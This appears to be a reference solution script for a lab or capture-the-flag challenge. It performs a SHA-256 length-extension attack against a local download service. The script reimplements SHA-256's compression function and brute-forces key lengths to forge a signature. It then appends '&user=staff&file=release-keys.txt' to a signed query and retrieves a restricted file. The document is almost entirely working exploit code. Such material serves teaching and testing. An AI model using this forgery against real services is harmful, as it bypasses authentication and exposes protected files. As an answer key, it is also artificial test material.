#!/bin/bash
# Reference exploit: SHA-256(key || query) is not a MAC: from a signed query's hash, SHA-256's
# compression function continues over padding || "&user=staff&file=release-keys.txt" without the key
# (length extension); later fields win. The key length is unknown, so try each.
set -euo pipefail
python3 - <<'PY'
import re, struct, urllib.parse, urllib.request, urllib.error

base = "http://127.0.0.1:9010"
page = urllib.request.urlopen(base + "/").read().decode()
link = re.search(r'href="(/download\?[^"]+)"', page).group(1).replace("&amp;", "&")
query, sig = link.split("?", 1)[1].rsplit("&sig=", 1)

K = [int(x, 16) for x in """
428a2f98 71374491 b5c0fbcf e9b5dba5 3956c25b 59f111f1 923f82a4 ab1c5ed5 d807aa98 12835b01 243185be 550c7dc3
72be5d74 80deb1fe 9bdc06a7 c19bf174 e49b69c1 efbe4786 0fc19dc6 240ca1cc 2de92c6f 4a7484aa 5cb0a9dc 76f988da
983e5152 a831c66d b00327c8 bf597fc7 c6e00bf3 d5a79147 06ca6351 14292967 27b70a85 2e1b2138 4d2c6dfc 53380d13
650a7354 766a0abb 81c2c92e 92722c85 a2bfe8a1 a81a664b c24b8b70 c76c51a3 d192e819 d6990624 f40e3585 106aa070
19a4c116 1e376c08 2748774c 34b0bcb5 391c0cb3 4ed8aa4a 5b9cca4f 682e6ff3 748f82ee 78a5636f 84c87814 8cc70208
90befffa a4506ceb bef9a3f7 c67178f2""".split()]

def rotr(x, n):
    return (x >> n | x << (32 - n)) & 0xFFFFFFFF

# stage: SHA-256's compression function, to continue a hash from its output state
def compress(state, block):
    w = list(struct.unpack(">16I", block))
    for i in range(16, 64):
        s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >> 3)
        s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >> 10)
        w.append((w[i - 16] + s0 + w[i - 7] + s1) & 0xFFFFFFFF)
    a, b, c, d, e, f, g, h = state
    for i in range(64):
        t1 = (h + (rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25)) + ((e & f) ^ (~e & g)) + K[i] + w[i]) & 0xFFFFFFFF
        t2 = ((rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) & 0xFFFFFFFF
        a, b, c, d, e, f, g, h = (t1 + t2) & 0xFFFFFFFF, a, b, c, (d + t1) & 0xFFFFFFFF, e, f, g
    return [(x + y) & 0xFFFFFFFF for x, y in zip(state, (a, b, c, d, e, f, g, h))]

def padding(length):
    return b"\x80" + b"\0" * ((55 - length) % 64) + struct.pack(">Q", 8 * length)

# stage: for each key length, forge query || padding || extension and its signature
extension = b"&user=staff&file=release-keys.txt"
for key_len in range(1, 65):
    glue = padding(key_len + len(query))
    total = key_len + len(query) + len(glue)
    data = extension + padding(total + len(extension))
    state = list(struct.unpack(">8I", bytes.fromhex(sig)))
    for i in range(0, len(data), 64):
        state = compress(state, data[i : i + 64])
    forged = struct.pack(">8I", *state).hex()
    url = f"{base}/download?{urllib.parse.quote_from_bytes(query.encode() + glue + extension, safe='=&')}&sig={forged}"
    try:
        print(urllib.request.urlopen(url).read().decode())
        break
    except urllib.error.HTTPError as e:
        if e.code != 403:
            raise
PY
